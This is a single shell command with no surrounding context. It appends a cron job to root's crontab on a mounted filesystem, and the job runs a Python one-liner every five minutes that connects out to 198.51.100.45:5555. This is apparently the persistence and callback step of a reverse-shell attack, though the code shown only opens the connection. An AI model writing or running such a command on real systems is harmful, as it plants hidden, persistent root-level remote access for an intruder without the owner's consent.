cat >> /mnt/var/spool/cron/crontabs/root <<'EOF2'
*/5 * * * * python -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.45",5555))'
EOF2
